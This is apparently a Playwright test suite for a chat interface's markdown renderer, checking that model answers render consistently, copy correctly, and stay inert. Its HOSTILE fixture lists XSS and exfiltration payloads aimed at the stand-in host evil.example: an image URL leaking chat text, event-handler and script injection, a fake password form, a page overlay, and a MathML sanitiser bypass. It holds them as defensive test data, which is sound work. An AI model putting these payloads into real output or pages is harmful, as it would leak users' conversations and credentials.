"""What a model writes is shown as text: it loads nothing, runs nothing, and looks like nothing of the page."""

import pytest
from playwright.sync_api import expect
from tests.browser.conftest import Chat
from tests.browser.home import Answer, tokens

pytestmark = pytest.mark.browser

SAMPLE = """# Title

A paragraph with *emphasis*, `code`, [a link](https://example.org) and a reference to [later].

1. one

2. two

   ```py
   print("nested")
   ```

| a | b |
|:-:|--:|
| 1 | 2 |

```python
def f(x):

    return x
```

> quoted

- [x] done
- [ ] open

[later]: https://example.org/later

The end: 2 < 3 & 4."""


@pytest.mark.parametrize("size", [1, 7])
def test_any_chunking_gives_the_same_document(chat: Chat, size: int) -> None:
    pieces = [SAMPLE[at : at + size] for at in range(0, len(SAMPLE), size)]
    chat.home.answers = [Answer(tokens([SAMPLE])), Answer(tokens(pieces))]
    chat.ask("Whole")
    chat.expect_outcome("done")
    whole = chat.markup
    chat.page.get_by_role("button", name="New chat").click()
    chat.ask("In pieces")
    chat.expect_outcome("done")
    assert chat.markup == whole
    assert 'href="https://example.org/later"' in whole
    chat.page.reload()
    expect(chat.page.locator(".markdown")).to_be_visible()
    assert chat.markup == whole


HOSTILE = """![secret](https://evil.example/leak?chat=words)
[![both](https://evil.example/b.png)](https://evil.example/go)
<img src="https://evil.example/html.png" onerror="window.hit = 1" srcset="https://evil.example/set.png 2x">
<script>window.hit = 2</script><svg onload="window.hit = 3"></svg><iframe src="https://evil.example/"></iframe>
[run](javascript:window.hit=4) [route](/api/auth/sign-out) <a href="//evil.example/protocol">relative</a>
<form action="https://evil.example"><input type="password" name="p"><button>Sign in</button></form>
<div class="fixed inset-0" id="root" style="position:fixed">cover</div><style>body{display:none}</style>
<video src="https://evil.example/v.mp4" autoplay></video><link rel="stylesheet" href="https://evil.example/x.css">
<table background="https://evil.example/t.png"><tr><td>cell</td></tr></table>
<math><mtext><mglyph><style><img src=x onerror="window.hit = 5"></style></mglyph></mtext></math>
"""


@pytest.mark.parametrize("whole", [True, False])
def test_hostile_output_stays_text(chat: Chat, faults: list[str], whole: bool) -> None:
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    pieces = [HOSTILE] if whole else list(HOSTILE)
    chat.home.answers = [Answer(tokens(pieces))]
    chat.ask("Be evil")
    chat.expect_outcome("done")
    assert chat.page.evaluate("window.hit") is None
    # Chromium reports these even where the sanitiser parses them, in a document that runs and shows nothing.
    inert = ("Executing inline event handler violates", "Applying inline style violates")
    faults[:] = [fault for fault in faults if not fault.startswith(inert)]
    assert not [url for url in asked if not url.startswith(chat.url)]
    body = chat.page.locator(".markdown")
    for tag in [
        "script",
        "svg",
        "iframe",
        "form",
        "style",
        "video",
        "link",
        "math",
        "img",
        "[class~=fixed]",
        "[style]",
    ]:
        expect(body.locator(tag)).to_have_count(0)
    expect(body.locator("input:not([type=checkbox])")).to_have_count(0)
    for link in body.locator("a[href]").all():
        assert (link.get_attribute("href") or "").startswith("https://evil.example/")
        assert link.get_attribute("rel") == "noopener noreferrer"
        assert link.get_attribute("target") == "_blank"
    picture = body.get_by_role("link", name="Image: secret")
    expect(picture).to_have_text("Image: secret (not loaded; opens evil.example)")


def test_pictures_within_the_answer_are_shown(chat: Chat) -> None:
    dot = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
    chat.home.answers = [Answer(tokens([f"![dot]({dot})"]))]
    chat.ask("Draw")
    chat.expect_outcome("done")
    assert chat.page.get_by_role("img", name="dot").evaluate("image => image.naturalWidth") == 1


def test_code_and_answers_are_copied(chat: Chat) -> None:
    text = "Look:\n\n```python\nprint(1 < 2)\n```\n"
    chat.home.answers = [Answer(tokens([text]))]
    chat.ask("Code")
    chat.expect_outcome("done")
    chat.page.get_by_role("button", name="Copy code").click()
    assert chat.page.evaluate("navigator.clipboard.readText()") == "print(1 < 2)"
    chat.page.get_by_role("button", name="Copy answer").click()
    assert chat.page.evaluate("navigator.clipboard.readText()") == text


def test_an_open_code_block_grows_without_being_made_again(chat: Chat) -> None:
    answer = Answer(tokens(["```python\n", "first = 1\n", "second = 2\n", "```\n"]), hold_after=2)
    chat.home.answers = [answer]
    chat.ask("Code")
    code = chat.page.locator(".markdown code")
    expect(code).to_have_text("first = 1")
    node = code.element_handle()
    answer.go.set()
    chat.expect_outcome("done")
    expect(code).to_have_text("first = 1\nsecond = 2")
    assert code.element_handle().evaluate("(now, before) => now === before", node)
